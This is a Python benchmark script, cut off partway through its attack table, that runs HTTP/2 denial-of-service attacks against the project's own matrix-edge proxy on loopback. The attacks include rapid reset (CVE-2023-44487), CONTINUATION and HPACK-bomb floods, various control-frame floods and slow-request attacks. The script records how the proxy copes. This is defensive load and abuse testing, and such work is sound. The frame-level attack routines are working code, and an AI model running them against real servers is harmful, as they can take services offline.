"""HTTP/2 attacks against a real matrix-edge process, over TLS on loopback.

Starts ``twistd matrix-edge`` with a TLS listener offering h2 in front of a
counting upstream (this file, run with ``--serve-upstream PORT``), then runs
each attack with raw frames, bounded in frames and seconds, and prints what
the edge answered and when, the edge's CPU time and memory growth during the
attack, how many requests reached the upstream, and whether a normal request
still works afterwards. Results also go to ``bench/results/h2-attacks-*.json``.

    .venv/bin/python bench/h2_attacks.py [--only NAME ...]

Traffic goes to 127.0.0.1 only.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

BENCH_DIR = Path(__file__).resolve().parent
REPO = BENCH_DIR.parent
sys.path.insert(0, str(REPO))

from tests import processes  # noqa: E402
from tests.h2raw import (  # noqa: E402
    HOST,
    KiB,
    RawH2,
    header_block,
)
from tests.pki import make_pki  # noqa: E402

MiB = 1024 * KiB
CLOCK_TICKS = os.sysconf("SC_CLK_TCK")

# The edge's limits, as matrix_edge/server/h2.py sets them.
STREAM_WINDOW = 256 * KiB
CONNECTION_WINDOW = 1 * MiB
OUTBOX_HIGH = 64 * KiB
MAX_STREAMS = 100
UPSTREAM_READ = 64 * KiB
"""What one read of an upstream connection can add past OUTBOX_HIGH before
the stream's producer is paused (Twisted reads 64 KiB at a time)."""

# Timeouts given to the edge so that the slow attacks end within seconds.
REQUEST_HEADERS_TIMEOUT = 5.0
BODY_IDLE_TIMEOUT = 8.0

ERROR_NAMES = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    2: "INTERNAL_ERROR",
    3: "FLOW_CONTROL_ERROR",
    4: "SETTINGS_TIMEOUT",
    5: "STREAM_CLOSED",
    6: "FRAME_SIZE_ERROR",
    7: "REFUSED_STREAM",
    8: "CANCEL",
    9: "COMPRESSION_ERROR",
    10: "CONNECT_ERROR",
    11: "ENHANCE_YOUR_CALM",
    12: "INADEQUATE_SECURITY",
    13: "HTTP_1_1_REQUIRED",
}


# The counting upstream ---------------------------------------------------------


class UpstreamStats:
    def __init__(self) -> None:
        self.requests = 0
        self.bytes_in = 0
        self.bytes_out = 0
        self.open_connections = 0
        self.connections = 0


async def _serve_upstream(port: int) -> None:
    """HTTP/1.1 keep-alive: ``/_matrix/big?mb=N`` sends N MiB (written as
    the edge reads it), ``/_bench/stats`` gives the counters (not counted),
    anything else a small JSON body after reading the request body."""
    stats = UpstreamStats()
    chunk = b"\0" * (64 * KiB)

    async def handle(
        reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        stats.open_connections += 1
        stats.connections += 1
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                line, *fields = head.decode("latin-1").split("\r\n")
                target = line.split(" ")[1]
                headers = {}
                for item in fields:
                    name, _, value = item.partition(":")
                    headers[name.strip().lower()] = value.strip()
                if target == "/_bench/stats":
                    body = json.dumps(stats.__dict__).encode()
                    writer.write(
                        b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n"
                        b"Connection: close\r\n\r\n%s" % (len(body), body)
                    )
                    await writer.drain()
                    return
                if target.startswith("/health"):
                    # The edge's own upstream checks: answered, not counted.
                    writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nOK")
                    await writer.drain()
                    continue
                stats.requests += 1
                if target.startswith("/_matrix/nobody"):
                    # Never reads the request body (nor answers), for 15 s.
                    writer.transport.pause_reading()
                    await asyncio.sleep(15)
                    return
                await _read_body(reader, headers, stats)
                if target.startswith("/_matrix/hang"):
                    # Never answered: held until the edge closes the connection.
                    await reader.read(1)
                    return
                if target.startswith("/_matrix/big"):
                    size = int(float(target.partition("mb=")[2] or 1) * MiB)
                    writer.write(
                        b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream"
                        b"\r\nContent-Length: %d\r\n\r\n" % size
                    )
                    while size:
                        n = min(size, len(chunk))
                        writer.write(chunk[:n])
                        await writer.drain()
                        stats.bytes_out += n
                        size -= n
                else:
                    body = b'{"versions":["v1.11"]}'
                    writer.write(
                        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                        b"Content-Length: %d\r\n\r\n%s" % (len(body), body)
                    )
                    await writer.drain()
                    stats.bytes_out += len(body)
        except (
            asyncio.IncompleteReadError,
            ConnectionError,
            asyncio.LimitOverrunError,
        ):
            pass
        finally:
            stats.open_connections -= 1
            writer.close()

    server = await asyncio.start_server(handle, HOST, port, limit=256 * KiB)
    async with server:
        await server.serve_forever()


async def _read_body(
    reader: asyncio.StreamReader, headers: dict[str, str], stats: UpstreamStats
) -> None:
    if "content-length" in headers:
        left = int(headers["content-length"])
        while left:
            data = await reader.read(min(left, 64 * KiB))
            if not data:
                raise asyncio.IncompleteReadError(b"", left)
            left -= len(data)
            stats.bytes_in += len(data)
    elif "chunked" in headers.get("transfer-encoding", ""):
        while True:
            size = int((await reader.readuntil(b"\r\n")).split(b";")[0], 16)
            data = await reader.readexactly(size + 2)
            stats.bytes_in += size
            if not size:
                break


def upstream_stats(port: int) -> dict[str, int]:
    with socket.create_connection((HOST, port), timeout=5) as sock:
        sock.sendall(b"GET /_bench/stats HTTP/1.1\r\nHost: x\r\n\r\n")
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    return json.loads(data.partition(b"\r\n\r\n")[2])


# The edge process ----------------------------------------------------------------


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / CLOCK_TICKS


def memory_kib(pid: int) -> dict[str, int]:
    return processes.memory_kib(pid)


class RssSampler:
    """VmRSS of a process every 50 ms, in a thread, until stopped."""

    def __init__(self, pid: int):
        self.pid = pid
        self.peak = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> RssSampler:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()

    def _run(self) -> None:
        while not self._stop.is_set():
            with contextlib.suppress(OSError):
                self.peak = max(self.peak, memory_kib(self.pid)["VmRSS"])
            self._stop.wait(0.05)


def reset_peak(pid: int) -> None:
    """Reset VmHWM to the current RSS (``clear_refs`` 5)."""
    with contextlib.suppress(OSError):
        Path(f"/proc/{pid}/clear_refs").write_text("5")


# What the edge answered ----------------------------------------------------


def outcome(client: RawH2) -> tuple[str, float | None]:
    """What the edge answered, and when (seconds after the start)."""
    if client.goaway is not None:
        name = ERROR_NAMES.get(client.goaway, str(client.goaway))
        text = f"GOAWAY {name}"
        if client.closed_at is not None:
            text += f", closed +{client.closed_at - (client.goaway_at or 0):.1f}s"
        return text, (client.goaway_at or 0) - client.started
    if client.closed_at is not None:
        return "closed", client.closed_at - client.started
    if client.resets:
        codes = sorted({ERROR_NAMES.get(c, str(c)) for c in client.resets.values()})
        return f"RST_STREAM x{len(client.resets)} ({', '.join(codes)})", None
    if client.status:
        codes = sorted(set(client.status.values()))
        return f"status {codes}", None
    return "nothing", None


def normal_request(port: int) -> str:
    """A plain GET over a fresh h2 connection: 'ok' or what went wrong."""
    try:
        client = RawH2(port)
    except (OSError, ssl.SSLError, AssertionError) as e:
        return f"no: {type(e).__name__}"
    try:
        stream_id, frame = client.request()
        client.send(frame)
        client.wait(lambda: stream_id in client.ended, 5.0)
        status = client.status.get(stream_id)
        if stream_id in client.ended and status == 200:
            return "ok"
        return f"no: status {status}, {outcome(client)[0]}"
    finally:
        client.close()


# The attacks -----------------------------------------------------------------------

UPSTREAM_PORT = 0
"""The counting upstream's port, for attacks that watch it during the run."""


def upstream_bytes_out() -> int:
    return upstream_stats(UPSTREAM_PORT)["bytes_out"]


@dataclass
class AttackResult:
    name: str
    description: str
    answer: str = ""
    after_s: float | None = None
    frames_sent: int = 0
    bytes_sent: int = 0
    duration_s: float = 0.0
    notes: str = ""
    edge_cpu_s: float = 0.0
    rss_before_kib: int = 0
    rss_peak_kib: int = 0
    rss_growth_kib: int = 0
    hwm_growth_kib: int = 0
    upstream_requests: int = 0
    upstream_bytes_out: int = 0
    upstream_bytes_in: int = 0
    serves_after: str = ""
    extra: dict[str, Any] = field(default_factory=dict)


def rapid_reset(port: int, result: AttackResult) -> None:
    """HEADERS then RST_STREAM, as fast as possible (CVE-2023-44487)."""
    client = RawH2(port)
    deadline = time.monotonic() + 10
    pairs = 0
    while pairs < 20000 and time.monotonic() < deadline:
        batch = b""
        for _ in range(50):
            stream_id, frame = client.request()
            batch += frame + RstStreamFrame(stream_id, error_code=8).serialize()
        if not client.send(batch, timeout=2.0):
            break
        pairs += 50
        result.bytes_sent += len(batch)
        client.poll()
        if client.goaway is not None:
            break
    client.wait_closed(5.0)
    result.frames_sent = 2 * pairs
    result.answer, result.after_s = outcome(client)
    client.close()


def continuation_flood(port: int, result: AttackResult) -> None:
    """HEADERS without END_HEADERS, then CONTINUATION frames without end."""
    client = RawH2(port)
    stream_id = client.new_stream()
    block = header_block(client.encoder)
    client.send(HeadersFrame(stream_id, block).serialize())
    # Each CONTINUATION carries a literal header (not indexed), so that the
    # block keeps growing in decoded size as well as in frames.
    literal = hpack.Encoder().encode([(b"x-flood", b"a" * 16000)], huffman=False)
    literal = literal.replace(b"\x40", b"\x00", 1)  # without indexing
    deadline = time.monotonic() + 10
    sent = 0
    while sent < 5000 and time.monotonic() < deadline:
        data = ContinuationFrame(stream_id, literal).serialize()
        if not client.send(data, timeout=2.0):
            break
        sent += 1
        result.bytes_sent += len(data)
        if sent % 8 == 0:
            client.poll()
            if client.goaway is not None:
                break
    client.wait_closed(5.0)
    result.frames_sent = sent + 1
    result.answer, result.after_s = outcome(client)
    client.close()


def hpack_bomb(port: int, result: AttackResult) -> None:
    """One 4000-byte dynamic table entry, then a header block referencing it
    16,000 times per frame (64 MB decoded per 16 KiB frame)."""
    client = RawH2(port)
    encoder = client.encoder
    # A request that puts the entry in the edge's decoder's dynamic table.
    first_id = client.new_stream()
    first = HeadersFrame(
        first_id, header_block(encoder, extra=[(b"x-bomb", b"b" * 4000)])
    )
    first.flags.add("END_HEADERS")
    first.flags.add("END_STREAM")
    client.send(first.serialize())
    client.wait(lambda: first_id in client.ended or client.goaway is not None, 5.0)
    result.extra["entry_request_status"] = client.status.get(first_id)
    stream_id = client.new_stream()
    references = b"\xbe" * 16000  # indexed field 62: the newest entry
    frames = [HeadersFrame(stream_id, header_block(encoder) + references)]
    frames += [ContinuationFrame(stream_id, references) for _ in range(15)]
    frames[-1].flags.add("END_HEADERS")
    frames[0].flags.add("END_STREAM")
    data = b"".join(f.serialize() for f in frames)
    client.send(data, timeout=5.0)
    result.bytes_sent = len(data)
    result.frames_sent = len(frames) + 1
    result.extra["decoded_size_if_unbounded"] = 16 * 16000 * 4000
    client.wait(lambda: client.goaway is not None or bool(client.resets), 5.0)
    client.wait_closed(3.0)
    result.answer, result.after_s = outcome(client)
    client.close()


def settings_flood(port: int, result: AttackResult) -> None:
    """SETTINGS frames as fast as possible, reading (and acknowledging)."""
    client = RawH2(port)
    frame = SettingsFrame(0)
    frame.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}
    batch = frame.serialize() * 100
    deadline = time.monotonic() + 10
    sent = 0
    while sent < 100000 and time.monotonic() < deadline:
        if not client.send(batch, timeout=2.0):
            break
        sent += 100
        client.poll()
        if client.goaway is not None:
            break
    client.wait_closed(5.0)
    result.frames_sent = sent
    result.bytes_sent = sent * len(frame.serialize())
    result.answer, result.after_s = outcome(client)
    client.close()


def ping_flood(port: int, result: AttackResult, reading: bool) -> None:
    """PING frames as fast as possible; the client reads the PING ACKs or
    never reads its socket."""
    client = RawH2(port)
    batch = b"".join(
        PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize() for i in range(100)
    )
    deadline = time.monotonic() + 10
    sent = 0
    blocked = False
    while sent < 100000 and time.monotonic() < deadline:
        if not client.send(batch, timeout=2.0):
            blocked = client.closed_at is None
            break
        sent += 100
        if reading:
            client.poll()
            if client.goaway is not None:
                break
    result.frames_sent = sent
    result.bytes_sent = sent * 17
    if not reading:
        # Only now look at what the edge said, and when it closed.
        send_stopped = time.monotonic() - client.started
        client.wait_closed(5.0)
        result.extra["client_writes_stopped_at_s"] = round(send_stopped, 2)
        result.extra["client_blocked"] = blocked
    client.wait_closed(5.0)
    result.answer, result.after_s = outcome(client)
    client.close()


def zero_window_streams(port: int, result: AttackResult) -> None:
    """100 streams of 10 MiB each, the client's stream windows at zero, held
    for 6 s: the edge must pause the upstream connections."""
    base = upstream_bytes_out()
    client = RawH2(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    client.credit = False
    data = b""
    ids = []
    for _ in range(MAX_STREAMS):
        stream_id, frame = client.request(b"/_matrix/big?mb=10")
        ids.append(stream_id)
        data += frame
    client.send(data)
    result.frames_sent = MAX_STREAMS + 1
    result.bytes_sent = len(data)
    samples = []
    for _ in range(3):
        end = time.monotonic() + 2
        while time.monotonic() < end and client.closed_at is None:
            client.poll(0.1)
        samples.append(round((upstream_bytes_out() - base) / MiB, 1))
    result.extra["upstream_mib_out_at_2_4_6s"] = samples
    result.notes = f"upstream MiB sent at 2/4/6 s: {samples}"
    result.extra["streams_answered"] = len(client.status)
    result.extra["client_received_bytes"] = sum(client.received.values())
    result.answer, result.after_s = outcome(client)
    if result.answer == "nothing" or result.answer.startswith("status"):
        result.answer = f"held ({len(client.status)} heads, no data)"
    client.close()


def non_reading_huge_window(port: int, result: AttackResult) -> None:
    """Windows at 2^31-1, four 50 MiB responses, the socket never read for
    6 s: the edge must stop at its send buffer, not read the upstream dry."""
    base = upstream_bytes_out()
    client = RawH2(
        port,
        settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1},
        connection_window=2**31 - 1 - 65535,
    )
    data = b""
    for _ in range(4):
        data += client.request(b"/_matrix/big?mb=50")[1]
    client.send(data)
    result.frames_sent = 4 + 2
    result.bytes_sent = len(data)
    samples = []
    for _ in range(3):
        time.sleep(2)
        samples.append(round((upstream_bytes_out() - base) / MiB, 1))
    result.extra["upstream_mib_out_at_2_4_6s"] = samples
    result.notes = f"upstream MiB sent at 2/4/6 s: {samples}"
    result.answer = "held (client not reading)"
    # Then read for a moment, to show the streams were alive.
    client.credit = False
    got = client.poll(0.5, limit=4 * MiB)
    result.extra["readable_after_s"] = got
    if client.goaway is not None or client.closed_at is not None:
        result.answer, result.after_s = outcome(client)
    client.close()


def write_after_goaway(port: int, result: AttackResult) -> None:
    """A protocol error (HEADERS on an even stream), then 256 KB writes of
    DATA frames over TLS for up to 8 s, going on after the edge's GOAWAY and
    close_notify: the edge must stop reading and close the TCP connection
    (``CLOSE_GRACE``, 2 s), without buffering what keeps coming."""
    client = RawH2(port)
    bad = HeadersFrame(2, header_block(client.encoder))
    bad.flags.add("END_HEADERS")
    bad.flags.add("END_STREAM")
    client.send(bad.serialize())
    block = DataFrame(1, b"x" * 16000).serialize() * 16
    deadline = time.monotonic() + 8
    sent = 0
    stalls = 0
    while sent < 4096 * MiB and time.monotonic() < deadline:
        if client.send(block, timeout=0.5, after_eof=True):
            sent += len(block)
        elif client.tcp_closed_at is not None:
            break
        else:
            stalls += 1
        client.poll()
    result.bytes_sent = sent
    result.frames_sent = sent // 16009 + 1
    result.extra["write_stalls_0.5s"] = stalls
    result.answer, result.after_s = outcome(client)
    start = client.goaway_at or client.started
    if client.closed_at is not None:
        result.extra["tls_close_after_goaway_s"] = round(client.closed_at - start, 2)
    if client.tcp_closed_at is not None:
        result.extra["tcp_closed_after_goaway_s"] = round(
            client.tcp_closed_at - start, 2
        )
        result.answer += f"; TCP closed +{client.tcp_closed_at - start:.1f}s"
    else:
        result.answer += "; TCP still open after 8 s of writing"
    client.close()


def slow_headers(port: int, result: AttackResult) -> None:
    """HEADERS without END_HEADERS, then a small CONTINUATION every 2 s:
    the edge must close at ``timeouts.request_headers``."""
    client = RawH2(port)
    stream_id = client.new_stream()
    client.send(HeadersFrame(stream_id, header_block(client.encoder)).serialize())
    piece = hpack.Encoder().encode([(b"x-slow", b"s" * 20)])
    deadline = time.monotonic() + 15
    sent = 1
    while time.monotonic() < deadline and client.closed_at is None:
        if client.wait(lambda: client.goaway is not None, 2.0):
            break
        if not client.send(ContinuationFrame(stream_id, piece).serialize()):
            break
        sent += 1
    client.wait_closed(5.0)
    result.frames_sent = sent
    result.answer, result.after_s = outcome(client)
    result.extra["configured_request_headers_s"] = REQUEST_HEADERS_TIMEOUT
    client.close()


def slow_body(port: int, result: AttackResult) -> None:
    """100 uploads of a declared 10 MiB each: the client sends what the
    windows allow (1 MiB for the connection) and then holds the rest; the
    edge must keep at most its windows and give up at ``body_idle``."""
    client = RawH2(port)
    ids = []
    data = b""
    for _ in range(MAX_STREAMS):
        stream_id, frame = client.request(
            b"/_matrix/media/v3/upload",
            b"POST",
            [(b"content-length", b"%d" % (10 * MiB))],
            end_stream=False,
        )
        ids.append(stream_id)
        data += frame
    client.send(data)
    # Fill the connection window (1 MiB once the edge's WINDOW_UPDATE is in).
    client.poll(0.5)
    sent = 0
    chunk = b"u" * 16000
    for stream_id in ids:
        for _ in range(2):
            client.send(DataFrame(stream_id, chunk).serialize(), timeout=0.5)
            sent += len(chunk)
    client.poll(0.2)
    result.bytes_sent = len(data) + sent
    result.frames_sent = MAX_STREAMS * 3 + 1
    client.wait(
        lambda: (
            len(client.resets) + len(client.ended) >= MAX_STREAMS
            or client.goaway is not None
        ),
        BODY_IDLE_TIMEOUT + 6,
    )
    result.answer, result.after_s = outcome(client)
    if result.after_s is None and client.resets:
        result.after_s = time.monotonic() - client.started
    result.extra["configured_body_idle_s"] = BODY_IDLE_TIMEOUT
    result.extra["statuses"] = sorted(set(client.status.values()))
    client.close()


def paced_rapid_reset(port: int, result: AttackResult) -> None:
    """Rounds of 100 requests that each reach the upstream (a request that
    is never answered) before the client resets all 100: how many requests
    the budget lets through on one connection."""
    client = RawH2(port)
    rounds = 0
    seen = upstream_stats(UPSTREAM_PORT)["requests"]
    while rounds < 20 and client.closed_at is None and client.goaway is None:
        ids, batch = [], b""
        for _ in range(MAX_STREAMS):
            stream_id, frame = client.request(b"/_matrix/hang")
            ids.append(stream_id)
            batch += frame
        client.send(batch)
        seen += MAX_STREAMS
        deadline = time.monotonic() + 5
        while upstream_stats(UPSTREAM_PORT)["requests"] < seen:
            client.poll(0.05)
            if time.monotonic() > deadline or client.goaway is not None:
                break
        reset = b"".join(RstStreamFrame(i, error_code=8).serialize() for i in ids)
        client.send(reset)
        result.frames_sent += 2 * MAX_STREAMS
        rounds += 1
        client.poll(0.1)
    client.wait_closed(5.0)
    result.extra["rounds"] = rounds
    result.answer, result.after_s = outcome(client)
    client.close()


def hpack_table_growth(
    port: int, result: AttackResult, table_size: int, ack_every_frame: bool = False
) -> None:
    """The client advertises SETTINGS_HEADER_TABLE_SIZE and makes requests
    on one connection, 100 at a time, for 10 s: every response carries a
    fresh X-Request-ID, which the edge's HPACK encoder adds to its dynamic
    table. The client's decoder mirrors that table, so its size is the
    edge's."""
    client = RawH2(port, settings={SettingsFrame.HEADER_TABLE_SIZE: table_size})
    client.ack_every_frame = ack_every_frame
    deadline = time.monotonic() + 10
    done = 0
    batches: list[float] = []
    while done < 40000 and time.monotonic() < deadline and client.closed_at is None:
        started = time.monotonic()
        ids, batch = [], b""
        for _ in range(MAX_STREAMS):
            stream_id, frame = client.request()
            ids.append(stream_id)
            batch += frame
        client.send(batch)
        last = ids[-1]
        if not client.wait(lambda last=last: last in client.ended, 5.0):
            break
        done += MAX_STREAMS
        batches.append(time.monotonic() - started)
    table = client.decoder.header_table
    result.frames_sent = done
    result.extra["requests_done"] = done
    result.extra["edge_encoder_table_entries"] = len(table.dynamic_entries)
    result.extra["edge_encoder_table_bytes"] = table._current_size
    if batches:
        first = sum(batches[:10]) / len(batches[:10]) / MAX_STREAMS * 1e6
        last = sum(batches[-10:]) / len(batches[-10:]) / MAX_STREAMS * 1e6
        result.extra["us_per_request_first_last_1000"] = [round(first), round(last)]
    result.notes = (
        f"{done} requests; edge HPACK table {len(table.dynamic_entries)} entries, "
        f"{table._current_size / KiB:.0f} KiB (HPACK size)"
        + (
            f"; us/request first vs last 1000: {round(first)} -> {round(last)}"
            if batches
            else ""
        )
    )
    result.answer, result.after_s = outcome(client)
    if result.answer.startswith("status"):
        result.answer = f"served {done} requests"
    client.close()


def ping_at_refill_rate(port: int, result: AttackResult) -> None:
    """150 PINGs a second for 6 s, below the budget's refill (200/s): a
    client that pings often but not abusively keeps its connection."""
    client = RawH2(port)
    sent = 0
    started = time.monotonic()
    while time.monotonic() - started < 6 and client.closed_at is None:
        client.send(PingFrame(0, opaque_data=sent.to_bytes(8, "big")).serialize())
        sent += 1
        client.poll()
        time.sleep(max(0.0, started + sent / 150 - time.monotonic()))
    result.frames_sent = sent
    result.bytes_sent = sent * 17
    result.answer, result.after_s = outcome(client)
    if result.answer == "nothing":
        result.answer = "kept open"
    client.close()


def window_update_flood(port: int, result: AttackResult, blocked: int) -> None:
    """100 streams held at a zero stream window (10 MiB downloads), then
    connection-level WINDOW_UPDATE frames of 1 byte as fast as possible for
    up to 10 s / 300k frames: WINDOW_UPDATE is not charged to the abuse
    budget, and each one makes the edge revisit every blocked stream."""
    client = RawH2(port, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    client.credit = False
    data = b"".join(client.request(b"/_matrix/big?mb=10")[1] for _ in range(blocked))
    client.send(data)
    client.wait(lambda: len(client.status) >= blocked, 5.0)
    batch = WindowUpdateFrame(0, window_increment=1).serialize() * 1000
    # Shorter than body_idle, which would end the blocked streams.
    deadline = time.monotonic() + 5
    sent = 0
    while sent < 300000 and time.monotonic() < deadline:
        if not client.send(batch, timeout=2.0):
            break
        sent += 1000
        client.poll()
        if client.goaway is not None:
            break
    result.frames_sent = sent + blocked
    result.bytes_sent = sent * 13
    result.extra["window_updates_sent"] = sent
    if client.goaway is None and client.drained():
        read_all = round(time.monotonic() - client.started, 2)
        result.extra["edge_read_all_s"] = read_all
        result.notes = f"edge had read all {sent} frames at {read_all} s"
    result.answer, result.after_s = outcome(client)
    if result.answer.startswith("status"):
        result.answer = "kept open"
    client.close()


def empty_data_flood(port: int, result: AttackResult) -> None:
    """Empty DATA frames (no END_STREAM) on an open upload, as fast as
    possible for up to 10 s / 300k frames (CVE-2019-9518): they cost the
    edge a frame each and are not charged to the abuse budget."""
    client = RawH2(port)
    stream_id, frame = client.request(
        b"/_matrix/media/v3/upload",
        b"POST",
        [(b"content-length", b"%d" % MiB)],
        end_stream=False,
    )
    client.send(frame)
    batch = DataFrame(stream_id, b"").serialize() * 1000
    deadline = time.monotonic() + 10
    sent = 0
    while sent < 300000 and time.monotonic() < deadline:
        if not client.send(batch, timeout=2.0):
            break
        sent += 1000
        client.poll()
        if client.goaway is not None:
            break
    result.frames_sent = sent + 1
    result.bytes_sent = sent * 9
    if client.goaway is None and client.drained():
        read_all = round(time.monotonic() - client.started, 2)
        result.extra["edge_read_all_s"] = read_all
        result.notes = f"edge had read all {sent} frames at {read_all} s"
    result.answer, result.after_s = outcome(client)
    if result.answer == "nothing":
        result.answer = "kept open"
    client.close()


def idle(port: int, result: AttackResult) -> None:
    """Nothing for 6 s: the edge's own CPU and memory drift."""
    time.sleep(6)
    result.answer = "-"


def over_stream_limit(port: int, result: AttackResult) -> None:
    """101 requests that the upstream never answers, at once, one more than
    SETTINGS_MAX_CONCURRENT_STREAMS allows."""
    client = RawH2(port)
    data = b"".join(client.request(b"/_matrix/hang")[1] for _ in range(MAX_STREAMS + 1))
    client.send(data)
    result.frames_sent = MAX_STREAMS + 1
    result.bytes_sent = len(data)
    client.wait(lambda: client.goaway is not None or bool(client.resets), 3.0)
    client.wait_closed(3.0)
    result.answer, result.after_s = outcome(client)
    result.extra["goaway_last_stream_id"] = client.goaway_last_stream
    result.notes = (
        f"GOAWAY last-stream-id {client.goaway_last_stream} (streams 1-201 sent)"
    )
    client.close()


def frame_flood(
    port: int,
    result: AttackResult,
    frame: bytes,
    prepare: Callable[[RawH2], None] | None = None,
    settings: dict[int, int] | None = None,
) -> None:
    """One frame repeated as fast as possible, for up to 5 s / 300k frames,
    then a PING to see when the edge had read them all."""
    client = RawH2(port, settings=settings)
    client.credit = False
    if prepare is not None:
        prepare(client)
    batch = frame * 1000
    deadline = time.monotonic() + 5
    sent = 0
    while sent < 300000 and time.monotonic() < deadline:
        if not client.send(batch, timeout=2.0):
            break
        sent += 1000
        client.poll()
        if client.goaway is not None:
            break
    result.frames_sent = sent
    result.bytes_sent = sent * len(frame)
    if client.goaway is None and client.drained():
        read_all = time.monotonic() - client.started
        result.notes = f"edge had read all {sent} frames at {read_all:.1f} s"
    result.answer, result.after_s = outcome(client)
    if result.answer in ("nothing",) or result.answer.startswith("status"):
        result.answer = "kept open"
    client.close()


def _blocked_downloads(client: RawH2) -> None:
    data = b"".join(
        client.request(b"/_matrix/big?mb=10")[1] for _ in range(MAX_STREAMS)
    )
    client.send(data)
    client.wait(lambda: len(client.status) >= MAX_STREAMS, 5.0)


def _closed_stream(client: RawH2) -> None:
    stream_id, frame = client.request()
    client.send(frame)
    client.wait(lambda: stream_id in client.ended, 5.0)


def upload_upstream_not_reading(port: int, result: AttackResult) -> None:
    """100 uploads of a declared 10 MiB each to an upstream that never reads
    a request body; the client sends as fast as the edge's windows allow,
    for 6 s. The edge must stop granting window once its upstream
    connections stop taking data, rather than buffer the uploads."""
    client = RawH2(port)
    ids = []
    data = b""
    for _ in range(MAX_STREAMS):
        stream_id, frame = client.request(
            b"/_matrix/nobody",
            b"POST",
            [(b"content-length", b"%d" % (10 * MiB))],
            end_stream=False,
        )
        ids.append(stream_id)
        data += frame
    client.send(data)
    sent = dict.fromkeys(ids, 0)
    chunk = b"u" * 16384
    deadline = time.monotonic() + 6
    total = 0
    while time.monotonic() < deadline and client.closed_at is None:
        moved = False
        for stream_id in ids:
            window = min(
                client.send_window[0] - total,
                client.edge_initial_window
                + client.send_window.get(stream_id, 0)
                - sent[stream_id],
            )
            if window <= 0 or stream_id in client.resets:
                continue
            n = min(window, len(chunk))
            if not client.send(DataFrame(stream_id, chunk[:n]).serialize(), 1.0):
                break
            sent[stream_id] += n
            total += n
            moved = True
        client.poll(0 if moved else 0.05)
    result.frames_sent = MAX_STREAMS
    result.bytes_sent = total
    result.extra["client_sent_mib"] = round(total / MiB, 1)
    result.notes = (
        f"client could send {total / MiB:.1f} MiB of the 1000 MiB declared "
        "(windows granted as the edge passed data to upstream sockets)"
    )
    result.answer, result.after_s = outcome(client)
    if result.answer == "nothing":
        result.answer = "held (windows closed)"
    client.close()


ATTACKS: list[tuple[str, str, Callable[[int, AttackResult], None]]] = [
    ("rapid-reset", "HEADERS+RST_STREAM pairs, <=20k pairs / 10 s", rapid_reset),
    (
        "rapid-reset-paced",
        "rounds of 100 requests reaching upstream, then 100 RST",
        paced_rapid_reset,
    ),
    (
        "continuation-flood",
        "HEADERS w/o END_HEADERS + 16 KB CONTINUATIONs, <=5000 / 10 s",
        continuation_flood,
    ),
    ("hpack-bomb", "4 KB table entry referenced 256k times", hpack_bomb),
    ("stream-limit+1", "101 concurrent requests (limit 100)", over_stream_limit),
    ("settings-flood", "SETTINGS frames, <=100k / 10 s", settings_flood),
    ("ping-150-per-s", "150 PING/s for 6 s (below the refill)", ping_at_refill_rate),
    (
        "ping-flood-reading",
        "PING frames, client reads, <=100k / 10 s",
        lambda p, r: ping_flood(p, r, True),
    ),
    (
        "ping-flood-not-reading",
        "PING frames, client never reads, <=100k / 10 s",
        lambda p, r: ping_flood(p, r, False),
    ),
    (
        "zero-window-streams",
        "100 streams x 10 MiB, stream windows 0, held 6 s",
        zero_window_streams,
    ),
    (
        "non-reading-huge-window",
        "windows 2^31-1, 4 x 50 MiB, socket unread 6 s",
        non_reading_huge_window,
    ),
    (
        "write-after-goaway",
        "protocol error, then DATA for <=8 s / 4 GiB",
        write_after_goaway,
    ),
    ("slow-headers", "CONTINUATION every 2 s, <=15 s", slow_headers),
    ("idle", "control: nothing for 6 s", idle),
    (
        "window-update-flood",
        "100 zero-window streams + 1-byte WINDOW_UPDATEs, <=300k / 5 s",
        lambda p, r: window_update_flood(p, r, MAX_STREAMS),
    ),
    (
        "window-update-flood-0",
        "the same without blocked streams",
        lambda p, r: window_update_flood(p, r, 0),
    ),
    (
        "window-update-1024-flood",
        "100 zero-window streams + 1024-byte conn. WINDOW_UPDATEs, 5 s",
        lambda p, r: frame_flood(
            p,
            r,
            WindowUpdateFrame(0, window_increment=1024).serialize(),
            _blocked_downloads,
            {SettingsFrame.INITIAL_WINDOW_SIZE: 0},
        ),
    ),
    (
        "unknown-frame-flood",
        "empty frames of an unknown type (0xfa), 5 s",
        lambda p, r: frame_flood(p, r, b"\x00\x00\x00\xfa\x00\x00\x00\x00\x00"),
    ),
    (
        "closed-stream-flood",
        "RST_STREAM + WINDOW_UPDATE on a stream already closed, 5 s",
        lambda p, r: frame_flood(
            p,
            r,
            RstStreamFrame(1, error_code=8).serialize()
            + WindowUpdateFrame(1, window_increment=1).serialize(),
            _closed_stream,
        ),
    ),
    (
        "empty-data-flood",
        "empty DATA frames on an upload, <=300k / 10 s",
        empty_data_flood,
    ),
    (
        "hpack-table-default",
        "control: requests for 10 s, HEADER_TABLE_SIZE 4096",
        lambda p, r: hpack_table_growth(p, r, 4096),
    ),
    (
        "acks-every-data-frame",
